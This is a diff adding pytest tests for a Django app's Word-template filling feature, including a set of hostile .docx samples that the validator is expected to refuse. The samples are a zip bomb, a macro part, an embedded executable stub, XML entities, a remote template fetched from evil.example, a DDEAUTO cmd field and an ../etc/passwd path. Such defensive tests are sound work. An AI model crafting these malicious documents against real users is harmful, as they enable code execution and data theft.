@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from django.core.exceptions import ValidationError
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from docx import Document
@@ -20,7 +21,7 @@ from kizuna.core.actions import place_of
 from kizuna.core.models import Account, Home
 from kizuna.core.terminal import operator as commanding
 from kizuna.core.values import FuzzyDate, Quantity
-from kizuna.desk.briefing import catalogue, files
+from kizuna.desk.briefing import catalogue, files, filling
 from kizuna.desk.briefing.book import Book
 from kizuna.desk.models import Issued
 from kizuna.directory.models import Organisation, Person, Post
@@ -342,3 +343,80 @@ def test_the_briefing_of_a_visit(ours: Home, alliance: Partnership, eth: Organis
 def test_a_country_has_the_figures_of_the_home_that_name_it(demonstration: date) -> None:
     japan = catalogue.make("country", "JP", Home.objects.get(slug="ucl"), commanding(), date(2019, 10, 1))
     assert "182 students" in [tile.big for tile in japan.tiles]
+
+
+# A Word template of one's own.
+
+
+def template(*texts: str, **parts: bytes) -> bytes:
+    """A Word file with these paragraphs, the last also in a cell; and further entries by name."""
+    paper = Document()
+    for text in texts:
+        paper.add_paragraph(text)
+    paper.add_table(rows=1, cols=1).rows[0].cells[0].text = texts[-1]
+    out = io.BytesIO()
+    paper.save(out)
+    with zipfile.ZipFile(out, "a") as more:
+        for name, content in parts.items():
+            more.writestr(name.replace("__", "/"), content)
+    return out.getvalue()
+
+
+def changed(content: bytes, name: str, old: bytes, new: bytes) -> bytes:
+    """The same file with something else in one of its entries."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as read, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for entry in read.namelist():
+            made.writestr(entry, read.read(entry).replace(old, new, 1) if entry == name else read.read(entry))
+    return out.getvalue()
+
+
+def test_a_template_of_ones_own_is_filled_with_words_and_lists(
+    closed: Partnership, ours: Home, office: Account
+) -> None:
+    records.save(records.noted(closed, text=words("{{ home }} {% x %} <w:p>")), by=commanding(), verb="added")
+    given = template("On {{ title }}, {{version}}", "{{ notes }}", "{{ promises }}", "{{ agreements }}")
+    inside = enter(office)
+    answer = inside.post("/desk/ours/briefing/partner/eth/fill/?shared", {"template": io.BytesIO(given)})
+    paper = Document(io.BytesIO(answer.content))
+    lines = [one.text for one in paper.paragraphs if one.text]
+    assert lines[0] == "On ETH alliance, Shared"
+    assert [line.partition(" (")[0] for line in lines if "note" in line] == ["A public note", "A staff note"]
+    assert any(line.startswith("{{ home }} {% x %} <w:p>") for line in lines)
+    told_in = paper.tables[0].rows[0].cells[0].paragraphs
+    assert sorted(one.text.partition(" (")[0] for one in told_in) == ["public agreement", "staff agreement"]
+    refused = inside.post("/desk/ours/briefing/partner/eth/fill/", {"template": io.BytesIO(template("{{ secret }}"))})
+    assert refused.status_code == 302
+    assert "asks for what there is not: secret" in inside.get("/desk/ours/briefing/").content.decode()
+
+
+RELS, BODY = "word/_rels/document.xml.rels", "word/document.xml"
+PLAIN = template("{{ title }}")
+OUTSIDE = (
+    b'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="https://evil.example/" TargetMode="External"/>'
+)
+HOSTILE_TEMPLATES = {
+    "no zip": b"PK\x03\x04 not a file",
+    "nothing": b"",
+    "too large": b"PK" + b"0" * 2_100_000,
+    "another zip": template("x")[:200],
+    "bomb": template("x", word__media__a=b"0" * 21_000_000),
+    "macro": template("x", word__vbaProject=b"VBA"),
+    "embedded": template("x", word__embeddings__a=b"MZ"),
+    "macro type": changed(PLAIN, "[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"),
+    "entities": changed(PLAIN, BODY, b"<w:document", b'<!DOCTYPE a [<!ENTITY b "bb">]><w:document'),
+    "utf-16": changed(PLAIN, BODY, b"<w:document", "<!DOCTYPE a>".encode("utf-16")),
+    "fetched template": changed(PLAIN, RELS, b"</Relationships>", OUTSIDE + b"</Relationships>"),
+    "field": changed(PLAIN, BODY, b"<w:p>", b"<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd</w:instrText></w:r>"),
+    "a path": template("x", **{"..__..__etc__passwd": b"x"}),
+    "broken xml": changed(PLAIN, BODY, b"<w:body>", b"<w:body"),
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE_TEMPLATES)
+def test_hostile_templates_are_refused_with_a_word(
+    name: str, ours: Home, alliance: Partnership, office: Account
+) -> None:
+    made = catalogue.make("partner", "eth", ours, office, date(2020, 1, 1))
+    with pytest.raises(ValidationError):
+        filling.fill(HOSTILE_TEMPLATES[name], made, NOON)
